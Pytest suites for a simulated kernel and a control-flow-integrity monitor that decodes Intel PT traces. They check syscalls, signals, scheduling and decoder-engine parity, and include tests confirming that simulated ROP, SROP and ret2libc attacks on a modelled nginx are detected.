            sys_(Sys.BRK, Const(HEAP_BASE + 8192)),
            Store(Const(HEAP_BASE), Const(55)),
            Return(Load(Const(HEAP_BASE))),
        ]
        kernel = build_kernel(body)
        proc = kernel.spawn("prog")
        kernel.run(proc)
        assert proc.exit_code == 55

    def test_mprotect(self):
        body = [
            Let("p", sys_(Sys.MMAP, Const(0), Const(4096), Const(3))),
            Return(sys_(Sys.MPROTECT, Var("p"), Const(4096), Const(1))),
        ]
        kernel = build_kernel(body)
        proc = kernel.spawn("prog")
        kernel.run(proc)
        assert proc.exit_code == 0


class TestForkExec:
    def test_fork_wait(self):
        # child returns 7, parent returns child status + 1
        body = [
            Let("pid", sys_(Sys.FORK)),
            If(
                Rel("==", Var("pid"), Const(0)),
                [Return(Const(7))],
            ),
            Let("status", sys_(Sys.WAIT)),
            Return(Var("status")),
        ]
        kernel = build_kernel(body)
        proc = kernel.spawn("prog")
        kernel.run(proc)
        assert proc.exit_code == 7
        assert len(kernel.processes) == 2

    def test_execve_replaces_image(self):
        target = Program("other")
        target.add_func(Func("main", [], [Return(Const(99))]))
        target.set_entry("main")

        body = [
            Let("pid", sys_(Sys.FORK)),
            If(
                Rel("==", Var("pid"), Const(0)),
                [sys_(Sys.EXECVE, Global("path")), Return(Const(1))],
            ),
            Return(sys_(Sys.WAIT)),
        ]
        kernel = build_kernel(body, data={"path": "other"})
        kernel.register_program("other", target.build())
        proc = kernel.spawn("prog")
        kernel.run(proc)
        assert proc.exit_code == 99

    def test_execve_changes_cr3_and_exec_stop_hook(self):
        target = Program("util")
        target.add_func(Func("main", [], [Return(Const(3))]))
        target.set_entry("main")

        body = [
            Let("pid", sys_(Sys.FORK)),
            If(
                Rel("==", Var("pid"), Const(0)),
                [
                    sys_(Sys.PTRACE, Const(PTRACE_TRACEME)),
                    sys_(Sys.EXECVE, Global("path")),
                    Return(Const(1)),
                ],
            ),
            Return(sys_(Sys.WAIT)),
        ]
        kernel = build_kernel(body, data={"path": "util"})
        kernel.register_program("util", target.build())
        observed = []
        kernel.exec_stop_hooks.append(
            lambda child: observed.append((child.name, child.cr3))
        )
        proc = kernel.spawn("prog")
        parent_cr3 = proc.cr3
        kernel.run(proc)
        assert proc.exit_code == 3
        assert len(observed) == 1
        name, cr3 = observed[0]
        assert name == "util"
        assert cr3 != parent_cr3  # execve allocated a fresh CR3

    def test_wait_without_children(self):
        kernel = build_kernel([Return(sys_(Sys.WAIT))])
        proc = kernel.spawn("prog")
        kernel.run(proc)
        assert proc.exit_code == -2


class TestSignals:
    def test_sigkill_terminates(self):
        kernel = build_kernel([Return(Const(0))])
        proc = kernel.spawn("prog")
        kernel.kill_process(proc, SIGKILL)
        assert proc.state is ProcessState.KILLED
        assert proc.killed_by == SIGKILL

    def test_signal_handler_and_sigreturn(self):
        """Deliver SIGUSR1 to self; handler runs, sigreturn resumes."""
        from repro.lang import FuncRef

        handler = Func(
            "on_sig",
            ["sig", "frame"],
            [
                # Mark that we ran, then sigreturn with SP at the frame.
                sys_(Sys.WRITE, Const(1), Global("mark"), Const(1)),
                Asm([]),
                # Restore: set sp = frame, then sigreturn.
                # (done in raw asm below)
            ],
        )
        # Simpler: handler body in raw asm for exact SP control.
        from repro.isa.assembler import A
        from repro.isa.registers import R0 as AR0, R2 as AR2, SP as ASP

        handler = Func(
            "on_sig",
            ["sig", "frame"],
            [
                Asm(
                    [
                        A.movr(ASP, AR2),  # SP = signal frame
                        A.mov(AR0, int(Sys.SIGRETURN)),
                        A.syscall(),
                    ]
                )
            ],
        )
        body = [
            sys_(Sys.SIGACTION, Const(SIGUSR1), FuncRef("on_sig")),
            Let("x", Const(5)),
            sys_(Sys.KILL, Const(0), Const(SIGUSR1)),
            # Execution resumes here with locals intact.
            Return(BinOpLike := Var("x")),
        ]
        kernel = build_kernel(body, extra_funcs=[handler])
        proc = kernel.spawn("prog")
        kernel.run(proc)
        assert proc.exit_code == 5
        assert proc.state is ProcessState.EXITED

    def test_unhandled_signal_kills(self):
        body = [
            sys_(Sys.KILL, Const(0), Const(SIGUSR1)),
            Return(Const(0)),
        ]
        kernel = build_kernel(body)
        proc = kernel.spawn("prog")
        kernel.run(proc)
        assert proc.state is ProcessState.KILLED
        assert proc.killed_by == SIGUSR1


class TestInterception:
    def test_install_handler_wraps_original(self):
        """The FlowGuard mechanism: swap a syscall-table entry."""
        kernel = build_kernel(
            [
                sys_(Sys.WRITE, Const(1), Global("msg"), Const(2)),
                Return(Const(0)),
            ],
            data={"msg": "ok"},
        )
        log = []
        original = kernel.install_handler(
            Sys.WRITE,
            lambda k, p: (log.append(p.pid), original(k, p))[1],
        )
        proc = kernel.spawn("prog")
        kernel.run(proc)
        assert log == [proc.pid]
        assert proc.stdout == bytearray(b"ok")

    def test_interceptor_can_deny(self):
        kernel = build_kernel(
            [Return(sys_(Sys.UNLINK, Global("p")))], data={"p": "/x"}
        )
        kernel.fs.create("/x", b"")
        kernel.install_handler(Sys.UNLINK, lambda k, p: -1)
        proc = kernel.spawn("prog")
        kernel.run(proc)
        assert proc.exit_code == -1
        assert kernel.fs.exists("/x")


class TestFaults:
    def test_wild_store_becomes_sigsegv(self):
        body = [Store(Const(0xDEAD0000), Const(1)), Return(Const(0))]
        kernel = build_kernel(body)
        proc = kernel.spawn("prog")
        state = kernel.run(proc)
        assert state is ProcessState.KILLED
        assert proc.killed_by == 11
        assert proc.fault is not None


class TestKernelStep:
    """The resumable scheduling primitive the fleet scheduler runs on."""

    def _loop_kernel(self, bound=50):
        body = [
            Let("i", Const(0)),
            While(
                Rel("<", Var("i"), Const(bound)),
                [Assign("i", BinOp("+", Var("i"), Const(1)))],
            ),
            Return(Var("i")),
        ]
        return build_kernel(body)

    def test_budget_outcome_is_resumable(self):
        kernel = self._loop_kernel()
        proc = kernel.spawn("prog")
        outcomes = [kernel.step(proc, 25)]
        assert outcomes[0] is StepOutcome.BUDGET
        assert proc.state is ProcessState.RUNNABLE
        while outcomes[-1] is StepOutcome.BUDGET:
            outcomes.append(kernel.step(proc, 25))
        assert outcomes[-1] is StepOutcome.EXITED
        assert len(outcomes) > 2  # genuinely time-sliced
        assert proc.exit_code == 50

    def test_sliced_run_matches_single_run(self):
        solo = self._loop_kernel()
        whole = solo.spawn("prog")
        assert solo.run(whole) is ProcessState.EXITED

        sliced_kernel = self._loop_kernel()
        sliced = sliced_kernel.spawn("prog")
        while sliced_kernel.step(sliced, 7) is StepOutcome.BUDGET:
            pass
        assert sliced.state is ProcessState.EXITED
        assert sliced.exit_code == whole.exit_code
        assert sliced.executor.cycles == whole.executor.cycles

    def test_preempted_by_interrupt_line(self):
        kernel = self._loop_kernel()
        proc = kernel.spawn("prog")
        assert kernel.step(proc, 10) is StepOutcome.BUDGET
        proc.executor.stop_requested = True
        assert kernel.step(proc, 1_000_000) is StepOutcome.PREEMPTED
        assert proc.state is ProcessState.RUNNABLE
        # The interrupt is consumed; the process resumes where it was.
        assert not proc.executor.stop_requested
        while kernel.step(proc, 1000) is StepOutcome.BUDGET:
            pass
        assert proc.exit_code == 50

    def test_step_on_dead_processes(self):
        kernel = self._loop_kernel()
        proc = kernel.spawn("prog")
        while kernel.step(proc, 1000) is StepOutcome.BUDGET:
            pass
        assert kernel.step(proc, 1000) is StepOutcome.EXITED

        victim = kernel.spawn("prog")
        kernel.step(victim, 5)
        kernel.kill_process(victim, SIGKILL)
        assert kernel.step(victim, 1000) is StepOutcome.KILLED
