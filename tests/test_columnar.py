"""Columnar decode engine correctness.

The contract under test is *engine equivalence*: the columnar engine
(table-driven scan into packed columns + one batched edge check) must be
observationally identical to the object engine — same TIP records,
trailing stitch state, truncation flags, ``PacketError`` messages,
charged cycles, verdicts, ledgers — with only wall-clock allowed to
differ.  The suite covers scan parity on synthetic and real traces
(including every truncation cut and random corruption), ``check_batch``
vs the per-edge loop (verdicts, cycles, memo state, ``promote``
invalidation), the dual-shape segment cache, zero-copy slicing, the
engine knob plumbing, the full attack-matrix oracle through both
engines, and fleet-level parity under fault injection.
"""

import random

import pytest

from repro import costs, telemetry
from repro.attacks import (
    build_flushing_request,
    build_retlib_request,
    build_rop_request,
    build_srop_request,
    run_recon,
)
from repro.fleet import FleetConfig, FleetService, RingPolicy
from repro.fleet.workers import ThreadedSliceDecoder
from repro.ipt.columnar import (
    ColumnarSegment,
    LazyPackets,
    NO_IP,
    columnar_decode_parallel,
    columnar_scan,
)
from repro.ipt.fast_decoder import (
    fast_decode,
    fast_decode_parallel,
    psb_offsets,
)
from repro.ipt.packets import (
    FUP_HEADER,
    OVF_BYTE,
    PAD_BYTE,
    PSBEND_BYTE,
    PSB_PATTERN,
    PacketError,
    TIP_HEADER,
    TIP_PGD_HEADER,
    TIP_PGE_HEADER,
    compose_tnt_sigs,
    encode_ip_packet,
    encode_tnt,
    pack_tnt_sig,
    unpack_tnt_sig,
)
from repro.ipt.segment_cache import SegmentDecodeCache
from repro.itccfg import FlowSearchIndex
from repro.monitor import FlowGuardPolicy
from repro.monitor.fastpath import ENGINES, FastPathChecker
from repro.osmodel import Kernel, ProcessState
from repro.pipeline import FlowGuardPipeline
from repro.resilience import FaultPlan
from repro.workloads import (
    build_libsim,
    build_nginx,
    build_vdso,
    nginx_request,
)

LIBS = {"libsim.so": build_libsim()}
SEG_ENTRIES = 64
EDGE_ENTRIES = 1024


@pytest.fixture(scope="module")
def pipeline():
    return FlowGuardPipeline.offline(
        "nginx",
        build_nginx(),
        LIBS,
        vdso=build_vdso(),
        corpus=[
            nginx_request("/index.html"),
            nginx_request("/x", "POST", b"small-body"),
            nginx_request("/y", "HEAD"),
        ],
        mode="socket",
    )


@pytest.fixture(scope="module")
def recon():
    return run_recon(build_nginx(), LIBS, vdso=build_vdso())


@pytest.fixture(scope="module")
def trace(pipeline):
    kernel = Kernel()
    kernel.fs.create("/index.html", b"<html>x</html>")
    monitor, proc = pipeline.deploy(kernel)
    for _ in range(4):
        proc.push_connection(nginx_request("/index.html"))
    kernel.run(proc)
    pp = monitor.protected_for(proc)
    pp.encoder.flush()
    return bytes(pp.topa.snapshot()), proc.image


def snapshot_cuts(data, count=10):
    step = max(64, len(data) // count)
    return list(range(step, len(data), step)) + [len(data)]


def make_checker(pipeline, image, cached, **kwargs):
    cache = SegmentDecodeCache(SEG_ENTRIES) if cached else None
    index = FlowSearchIndex(
        pipeline.labeled,
        edge_cache_entries=EDGE_ENTRIES if cached else 0,
    )
    checker = FastPathChecker(
        index, image, pkt_count=kwargs.pop("pkt_count", 12),
        require_cross_module=False, require_executable=False,
        segment_cache=cache, **kwargs,
    )
    return checker, cache, index


def fingerprint(result):
    """Everything verdict-relevant about a FastPathResult.  Touching
    ``result.packets`` also forces the columnar engine's lazy packets,
    so packet parity rides along."""
    return (
        result.verdict.value,
        result.checked_pairs,
        tuple(result.low_credit_pairs),
        result.violation_edge,
        result.window_offset,
        result.corrupt_segments,
        tuple(
            (r.ip, r.tnt_before, r.offset, r.after_far)
            for r in result.window
        ),
        tuple(
            (p.kind.value, p.offset, p.bits, p.ip)
            for p in result.packets
        ),
    )


def build_stream(seed, packets=300):
    """A deterministic random-but-valid packet stream exercising every
    packet kind, IP compression width changes and suppressed IPs."""
    rng = random.Random(seed)
    out = bytearray(PSB_PATTERN)
    out.append(PSBEND_BYTE)
    addresses = (
        [0x400000 + 16 * i for i in range(48)]
        + [0x7F0000000000 + 32 * i for i in range(16)]
    )
    last_ip = 0
    for _ in range(packets):
        roll = rng.random()
        if roll < 0.35:
            bits = tuple(
                rng.random() < 0.5 for _ in range(rng.randint(1, 6))
            )
            out += encode_tnt(bits)
        elif roll < 0.70:
            header = rng.choice(
                (TIP_HEADER, TIP_HEADER, TIP_HEADER,
                 TIP_PGE_HEADER, TIP_PGD_HEADER)
            )
            target = (
                None if rng.random() < 0.1 else rng.choice(addresses)
            )
            encoded, last_ip = encode_ip_packet(header, target, last_ip)
            out += encoded
        elif roll < 0.80:
            encoded, last_ip = encode_ip_packet(
                FUP_HEADER, rng.choice(addresses), last_ip
            )
            out += encoded
        elif roll < 0.88:
            out.append(PAD_BYTE)
        elif roll < 0.96:
            out += PSB_PATTERN
            out.append(PSBEND_BYTE)
            last_ip = 0
        else:
            out.append(OVF_BYTE)
    return bytes(out)


def assert_scan_parity(data, sync=False):
    """Both engines agree on everything, including the error message."""
    try:
        col = columnar_scan(data, sync=sync)
        col_error = None
    except PacketError as exc:
        col, col_error = None, str(exc)
    try:
        obj = fast_decode(data, sync=sync)
        obj_error = None
    except PacketError as exc:
        obj, obj_error = None, str(exc)
    assert col_error == obj_error
    if obj is None:
        return
    obj_records, obj_trailing, obj_far = obj.tip_records_with_state()
    col_records, col_trailing, col_far = col.tip_records_with_state()
    assert col_records == obj_records
    assert col_trailing == obj_trailing
    assert col_far == obj_far
    assert col.cycles == obj.cycles
    assert col.truncated == obj.truncated
    assert col.synced_offset == obj.synced_offset
    assert col.packets() == obj.packets
    assert col.fup_addresses() == obj.fup_ips()


class TestScanParity:
    @pytest.mark.parametrize("seed", [0, 1, 2, 3])
    def test_synthetic_streams(self, seed):
        assert_scan_parity(build_stream(seed))

    def test_real_trace(self, trace):
        data, _ = trace
        assert_scan_parity(data)

    def test_every_truncation_cut(self):
        data = build_stream(7, packets=60)
        for cut in range(len(data) + 1):
            assert_scan_parity(data[:cut])

    def test_corruption_flips(self):
        data = build_stream(11, packets=80)
        rng = random.Random(99)
        for _ in range(150):
            position = rng.randrange(len(data))
            flipped = bytearray(data)
            flipped[position] ^= 1 << rng.randrange(8)
            assert_scan_parity(bytes(flipped))

    def test_sync_skips_garbage_prefix(self):
        data = b"\xde\xad\xbe\xef" + build_stream(3, packets=40)
        assert_scan_parity(data, sync=True)

    def test_sync_without_psb(self):
        seg = columnar_scan(b"\xde\xad\xbe\xef", sync=True)
        assert seg.record_count == 0
        assert seg.synced_offset == 4
        assert seg.cycles == 0.0

    def test_empty(self):
        assert_scan_parity(b"")

    def test_telemetry_counters_match(self, trace):
        data, _ = trace
        totals = []
        for scan in (fast_decode, columnar_scan):
            with telemetry.capture() as tel:
                scan(data)
                totals.append({
                    name: tel.metrics.counter(name).total()
                    for name in (
                        "ipt.fast_decode.calls",
                        "ipt.fast_decode.bytes",
                        "ipt.fast_decode.packets",
                    )
                })
        assert totals[0] == totals[1]
        assert totals[0]["ipt.fast_decode.bytes"] == len(data)

    def test_lazy_packets_do_not_count(self, trace):
        """Materialising packets from a columnar segment must not
        re-meter the scan (the columnar scan already counted it)."""
        data, _ = trace
        seg = columnar_scan(data)
        with telemetry.capture() as tel:
            seg.packets()
            assert tel.metrics.counter("ipt.fast_decode.calls").total() == 0


class TestPackedSigs:
    @pytest.mark.parametrize("bits", [
        (), (True,), (False,), (True, False, True),
        (False,) * 9, (True, False) * 7,
    ])
    def test_roundtrip(self, bits):
        assert unpack_tnt_sig(pack_tnt_sig(bits)) == tuple(bits)

    def test_compose_is_concatenation(self):
        front = (True, False, False)
        back = (False, True)
        assert compose_tnt_sigs(
            pack_tnt_sig(front), pack_tnt_sig(back)
        ) == pack_tnt_sig(front + back)

    def test_compose_empty_identity(self):
        sig = pack_tnt_sig((True, False))
        assert compose_tnt_sigs(1, sig) == sig
        assert compose_tnt_sigs(sig, 1) == sig

    def test_injective_on_prefix_runs(self):
        # A run of not-taken bits must not collapse into the empty run.
        assert pack_tnt_sig((False,)) != pack_tnt_sig(())
        assert pack_tnt_sig((False, False)) != pack_tnt_sig((False,))


class TestCheckBatch:
    def _window(self, pipeline, trace, cut):
        data, image = trace
        checker, _, _ = make_checker(pipeline, image, cached=False)
        tail = checker.decode_tail_columnar(data[:cut])
        return tail.window(checker.pkt_count + 1)

    @pytest.mark.parametrize("cached", [False, True])
    def test_matches_edge_loop(self, pipeline, trace, cached):
        data, image = trace
        entries = EDGE_ENTRIES if cached else 0
        loop_index = FlowSearchIndex(
            pipeline.labeled, edge_cache_entries=entries
        )
        batch_index = FlowSearchIndex(
            pipeline.labeled, edge_cache_entries=entries
        )
        for cut in snapshot_cuts(data):
            records, ips, sigs = self._window(pipeline, trace, cut)
            # Reference: the object engine's per-edge loop.
            violation = None
            low_credit = []
            checked = 0
            for prev, cur in zip(records, records[1:]):
                lookup = loop_index.check_edge(
                    prev.ip, cur.ip, cur.tnt_before
                )
                checked += 1
                if not lookup.in_graph:
                    violation = (prev.ip, cur.ip)
                    break
                if not lookup.tnt_ok or lookup.credit.name != "HIGH":
                    low_credit.append((prev.ip, cur.ip))
            batch = batch_index.check_batch(ips, sigs)
            assert batch.violation == violation
            assert batch.checked == checked
            if violation is None:
                assert batch.low_credit == low_credit
            assert batch_index.cycles == loop_index.cycles
            assert batch_index.memo_hits == loop_index.memo_hits
            assert batch_index.memo_misses == loop_index.memo_misses

    def test_violation_early_stop(self, pipeline, trace):
        records, ips, sigs = self._window(
            pipeline, trace, len(trace[0])
        )
        assert len(ips) > 3
        evil = 0xDEAD0000
        ips = ips[:2] + [evil] + ips[2:]
        sigs = sigs[:2] + [1] + sigs[2:]
        index = FlowSearchIndex(pipeline.labeled)
        batch = index.check_batch(ips, sigs)
        assert batch.violation == (ips[1], evil)
        assert batch.checked == 2

    def test_promote_keeps_parity(self, pipeline, trace):
        records, ips, sigs = self._window(
            pipeline, trace, len(trace[0])
        )
        pairs = list(zip(records, records[1:]))
        promoted = pairs[len(pairs) // 2]
        loop_index = FlowSearchIndex(
            pipeline.labeled, edge_cache_entries=EDGE_ENTRIES
        )
        batch_index = FlowSearchIndex(
            pipeline.labeled, edge_cache_entries=EDGE_ENTRIES
        )
        for prev, cur in pairs:
            loop_index.check_edge(prev.ip, cur.ip, cur.tnt_before)
        batch_index.check_batch(ips, sigs)
        for index in (loop_index, batch_index):
            index.promote(
                promoted[0].ip, promoted[1].ip, promoted[1].tnt_before
            )
        batch = batch_index.check_batch(ips, sigs)
        low_credit = []
        for prev, cur in pairs:
            lookup = loop_index.check_edge(prev.ip, cur.ip, cur.tnt_before)
            assert lookup.in_graph
            if not lookup.tnt_ok or lookup.credit.name != "HIGH":
                low_credit.append((prev.ip, cur.ip))
        assert batch.low_credit == low_credit
        assert batch_index.cycles == loop_index.cycles
        assert (promoted[0].ip, promoted[1].ip) not in batch.low_credit

    def test_short_windows(self, pipeline):
        index = FlowSearchIndex(pipeline.labeled)
        assert index.check_batch([], []).checked == 0
        assert index.check_batch([0x400000], [1]).checked == 0
        assert index.cycles == 0.0


class TestCheckerParity:
    """Both engines produce bit-identical FastPathResults and charged
    cycles over real snapshot series, cached and uncached."""

    @pytest.mark.parametrize("cached", [False, True])
    def test_snapshot_series(self, pipeline, trace, cached):
        data, image = trace
        objects, _, obj_index = make_checker(
            pipeline, image, cached, engine="objects"
        )
        columnar, _, col_index = make_checker(
            pipeline, image, cached, engine="columnar"
        )
        for cut in snapshot_cuts(data, count=12):
            obj_result = objects.check(data[:cut])
            col_result = columnar.check(data[:cut])
            assert fingerprint(col_result) == fingerprint(obj_result)
            assert col_result.decode_cycles == obj_result.decode_cycles
            assert col_result.search_cycles == obj_result.search_cycles
        assert col_index.cycles == obj_index.cycles

    def test_decode_tail_legacy_shape(self, pipeline, trace):
        """The columnar checker's decode_tail keeps the legacy 4-tuple
        contract: records, packets, cycles, start."""
        data, image = trace
        objects, _, _ = make_checker(
            pipeline, image, cached=False, engine="objects"
        )
        columnar, _, _ = make_checker(
            pipeline, image, cached=False, engine="columnar"
        )
        for cut in snapshot_cuts(data, count=6):
            obj_records, obj_packets, obj_cycles, obj_start = (
                objects.decode_tail(data[:cut])
            )
            col_records, col_packets, col_cycles, col_start = (
                columnar.decode_tail(data[:cut])
            )
            assert col_records == obj_records
            assert isinstance(col_packets, LazyPackets)
            assert col_packets == obj_packets
            assert col_cycles == obj_cycles
            assert col_start == obj_start

    def test_corrupted_segment_parity(self, pipeline, trace):
        """A mid-trace corruption degrades both engines identically
        (same verdict, same corrupt-segment count, same cycles)."""
        data, image = trace
        offsets = psb_offsets(data)
        assert len(offsets) >= 2
        corrupt = bytearray(data)
        corrupt[offsets[1] + 9] = 0xFF  # desync inside segment 1
        corrupt = bytes(corrupt)
        for cut in snapshot_cuts(corrupt, count=6):
            objects, _, _ = make_checker(
                pipeline, image, cached=False, engine="objects"
            )
            columnar, _, _ = make_checker(
                pipeline, image, cached=False, engine="columnar"
            )
            obj_result = objects.check(corrupt[:cut])
            col_result = columnar.check(corrupt[:cut])
            assert fingerprint(col_result) == fingerprint(obj_result)
            assert col_result.decode_cycles == obj_result.decode_cycles


SECURITY_MATRIX = [
    ("rop", build_rop_request),
    ("srop", build_srop_request),
    ("retlib", build_retlib_request),
    ("flushing", build_flushing_request),
]


class TestEngineOracle:
    """Satellite oracle: the full attack matrix through both engines,
    asserting identical detections and process fate."""

    @pytest.mark.parametrize(
        "name,build", SECURITY_MATRIX, ids=[n for n, _ in SECURITY_MATRIX]
    )
    def test_attack_matrix(self, name, build, pipeline, recon):
        outcomes = []
        for engine in ENGINES:
            kernel = Kernel()
            kernel.fs.create("/index.html", b"<html>x</html>")
            monitor, proc = pipeline.deploy(
                kernel, policy=FlowGuardPolicy(engine=engine)
            )
            proc.push_connection(build(recon))
            kernel.run(proc)
            outcomes.append(
                ([d.syscall_nr for d in monitor.detections], proc.state)
            )
        detections, state = outcomes[0]
        assert detections, f"{name} went undetected"
        assert state is ProcessState.KILLED
        assert outcomes[0] == outcomes[1], (
            f"{name}: engines diverged: {outcomes}"
        )

    def test_fleet_fault_injection_parity(self):
        """Fleet runs under the standard fault mix: verdict sequences,
        quarantines, monitor cycles and the degradation ledger are
        engine-independent, and the cycle ledger reconciles exactly."""
        outcomes = []
        for engine in ENGINES:
            config = FleetConfig(
                workers=2,
                ring_policy=RingPolicy.STALL,
                max_queue_depth=1_000_000,
                segment_cache_entries=SEG_ENTRIES,
                edge_cache_entries=EDGE_ENTRIES,
                engine=engine,
                faults=FaultPlan.standard_mix(seed=5),
            )
            with telemetry.capture():
                service = FleetService(config)
                service.kernel.fs.create(
                    "/index.html", b"<html>x</html>"
                )
                from repro.experiments.common import (
                    seed_server_fs,
                    server_pipeline,
                    server_requests,
                )
                seed_server_fs(service.kernel)
                service.add_workload(
                    server_pipeline("nginx"),
                    server_requests("nginx", 1),
                )
                result = service.run()
                reconciliation = service.reconcile()
            verdicts = [
                (t.pid, t.kind, t.syscall_nr, t.verdict, t.degraded)
                for t in service.dispatcher.tasks
            ]
            resilience = result.resilience or {}
            outcomes.append({
                "verdicts": verdicts,
                "quarantined": result.quarantined_pids,
                "monitor_cycles": result.monitor_cycles,
                "ledger": resilience.get("degradations"),
                "accounting_exact": result.accounting["exact"],
                "reconcile_exact": bool(
                    reconciliation and reconciliation["exact"]
                ),
            })
        assert outcomes[0]["accounting_exact"]
        assert outcomes[0]["reconcile_exact"]
        assert outcomes[0] == outcomes[1]


class TestSegmentCacheDualShape:
    def _segment(self, trace):
        data, _ = trace
        offsets = psb_offsets(data)
        view = memoryview(data)
        return view[offsets[0]:offsets[1]]

    def test_other_shape_is_honest_miss(self, trace):
        segment = self._segment(trace)
        cache = SegmentDecodeCache(8)
        cache.decode_segment_columnar(segment)
        assert (cache.hits, cache.misses) == (0, 1)
        # Same key, other shape: the object decode really runs.
        cache.decode_segment(segment)
        assert (cache.hits, cache.misses) == (0, 2)
        # Now both shapes are resident; both probe paths hit.
        cache.decode_segment_columnar(segment)
        cache.decode_segment(segment)
        assert (cache.hits, cache.misses) == (2, 2)
        assert len(cache) == 1  # one slot, two shapes

    def test_hit_cycles_match_object_path(self, trace):
        segment = self._segment(trace)
        size = len(segment)
        cache = SegmentDecodeCache(8)
        cache.decode_segment_columnar(segment)
        _, hit_cycles = cache.decode_segment_columnar(segment)
        assert hit_cycles == (
            size * costs.SEGMENT_CACHE_HASH_CYCLES_PER_BYTE
            + costs.SEGMENT_CACHE_PROBE_CYCLES
        )

    def test_miss_cycles_charge_scan(self, trace):
        segment = self._segment(trace)
        cache = SegmentDecodeCache(8)
        seg, cycles = cache.decode_segment_columnar(segment)
        assert cycles == (
            len(segment) * costs.SEGMENT_CACHE_HASH_CYCLES_PER_BYTE
            + seg.cycles
        )

    def test_truncated_never_cached(self, trace):
        data, _ = trace
        offsets = psb_offsets(data)
        view = memoryview(data)
        whole = view[offsets[0]:offsets[1]]
        truncated = next(
            whole[:cut] for cut in range(len(whole) - 1, 0, -1)
            if fast_decode(bytes(whole[:cut])).truncated
        )
        cache = SegmentDecodeCache(8)
        seg, _ = cache.decode_segment_columnar(truncated)
        assert seg.truncated
        assert len(cache) == 0
        cache.decode_segment_columnar(truncated)
        assert cache.misses == 2 and cache.hits == 0

    def test_cached_segment_is_zero_copy(self, trace):
        data, _ = trace
        segment = self._segment(trace)
        cache = SegmentDecodeCache(8)
        seg, _ = cache.decode_segment_columnar(segment)
        assert isinstance(seg.data, memoryview)
        assert seg.data.obj is data

    def test_columnar_parallel_through_cache(self, trace):
        """`columnar_decode_parallel` with a cache matches the object
        parallel decode and reuses resident segments."""
        data, _ = trace
        cache = SegmentDecodeCache(SEG_ENTRIES)
        first = columnar_decode_parallel(data, cache=cache)
        second = columnar_decode_parallel(data, cache=cache)
        reference = fast_decode_parallel(data)
        assert first.packets == reference.packets
        assert second.packets == reference.packets
        assert first.cycles != second.cycles  # hits are cheaper
        assert cache.hits > 0


class TestZeroCopy:
    def test_decode_tail_columnar_slices_zero_copy(
        self, pipeline, trace, monkeypatch
    ):
        data, image = trace
        seen = []
        real = columnar_scan

        def spy(segment, *args, **kwargs):
            seen.append(segment)
            return real(segment, *args, **kwargs)

        import repro.monitor.fastpath as fastpath

        monkeypatch.setattr(fastpath, "columnar_scan", spy)
        checker, _, _ = make_checker(
            pipeline, image, cached=False, engine="columnar"
        )
        checker.decode_tail(data)
        assert seen
        for segment in seen:
            assert isinstance(segment, memoryview)
            assert segment.obj is data

    def test_parallel_scan_slices_zero_copy(self, trace):
        data, _ = trace
        result = columnar_decode_parallel(data)
        assert result.columns
        for seg, _ in result.columns:
            assert isinstance(seg.data, memoryview)
            assert seg.data.obj is data


class TestEngineKnob:
    def test_checker_rejects_unknown_engine(self, pipeline, trace):
        _, image = trace
        with pytest.raises(ValueError, match="unknown decode engine"):
            FastPathChecker(
                FlowSearchIndex(pipeline.labeled), image,
                engine="vectorised",
            )

    def test_threaded_decoder_rejects_unknown_engine(self):
        with pytest.raises(ValueError, match="unknown decode engine"):
            ThreadedSliceDecoder(2, engine="simd")

    def test_policy_defaults_and_roundtrip(self):
        policy = FlowGuardPolicy()
        assert policy.engine == "columnar"
        objects = FlowGuardPolicy(engine="objects")
        assert FlowGuardPolicy.from_dict(objects.to_dict()).engine == (
            "objects"
        )
        assert objects.with_endpoints(999).engine == "objects"

    def test_fleet_config_roundtrip(self):
        config = FleetConfig(engine="objects")
        assert FleetConfig.from_dict(config.to_dict()).engine == "objects"
        assert FleetConfig().engine == "columnar"

    def test_cli_engine_flag(self):
        from repro.cli import build_parser

        parser = build_parser()
        assert parser.parse_args(["stats", "nginx"]).engine == "columnar"
        args = parser.parse_args(
            ["stats", "nginx", "--engine", "objects"]
        )
        assert args.engine == "objects"
        assert parser.parse_args(
            ["fleet", "--engine", "objects"]
        ).engine == "objects"
        with pytest.raises(SystemExit):
            parser.parse_args(["stats", "nginx", "--engine", "simd"])

    def test_policy_engine_reaches_checker(self, pipeline):
        kernel = Kernel()
        kernel.fs.create("/index.html", b"<html>x</html>")
        monitor, proc = pipeline.deploy(
            kernel, policy=FlowGuardPolicy(engine="objects")
        )
        assert monitor.protected_for(proc).checker.engine == "objects"


class TestDecodeResultMemos:
    """Satellite regression: derived views of a FastDecodeResult are
    computed once and shared, not rescanned per access."""

    def test_tip_state_single_scan(self, trace):
        data, _ = trace
        result = fast_decode(data)
        first = result.tip_records_with_state()
        assert result.tip_records_with_state() is first
        assert result.tip_records() is first[0]

    def test_fup_ips_single_scan(self, trace):
        data, _ = trace
        result = fast_decode(data)
        assert result.fup_ips() is result.fup_ips()


class TestPsbOffsetsMemoryview:
    """Satellite regression: memoryview input takes the same scan path
    as bytes (one conversion up front, identical offsets)."""

    def test_parity_with_bytes(self, trace):
        data, _ = trace
        assert psb_offsets(memoryview(data)) == psb_offsets(data)

    def test_parity_on_slices(self, trace):
        data, _ = trace
        view = memoryview(data)
        for cut in snapshot_cuts(data, count=5):
            assert psb_offsets(view[:cut]) == psb_offsets(data[:cut])

    def test_synthetic(self):
        data = build_stream(5, packets=50)
        assert psb_offsets(memoryview(data)) == psb_offsets(data)


class TestColumnarSegmentViews:
    def test_record_accessors(self):
        data = build_stream(13, packets=120)
        seg = columnar_scan(data)
        records = fast_decode(data).tip_records()
        assert seg.record_count == len(records)
        for index, record in enumerate(records):
            assert seg.record_ip(index) == record.ip
            assert unpack_tnt_sig(seg.record_sig(index)) == (
                record.tnt_before
            )
            assert seg.materialise_record(index) == record
            rebased = seg.materialise_record(index, base=100)
            assert rebased.offset == record.offset + 100

    def test_suppressed_ip_uses_sentinel(self):
        stream = bytearray(PSB_PATTERN)
        stream.append(PSBEND_BYTE)
        encoded, last = encode_ip_packet(TIP_HEADER, 0x400010, 0)
        stream += encoded
        encoded, _ = encode_ip_packet(TIP_HEADER, None, last)
        stream += encoded
        seg = columnar_scan(bytes(stream))
        assert list(seg.rec_ips) == [0x400010, NO_IP]
        assert seg.record_ip(1) is None
        records = seg.tip_records()
        assert records[1].ip is None

    def test_lazy_packets_sequence_protocol(self):
        tail_data = build_stream(17, packets=80)
        seg = columnar_scan(tail_data)
        packets = fast_decode(tail_data).packets
        from repro.ipt.columnar import ColumnarTail

        tail = ColumnarTail()
        tail.prepend(seg, 0)
        lazy = tail.lazy_packets()
        assert len(lazy) == len(packets)
        assert lazy[0] == packets[0]
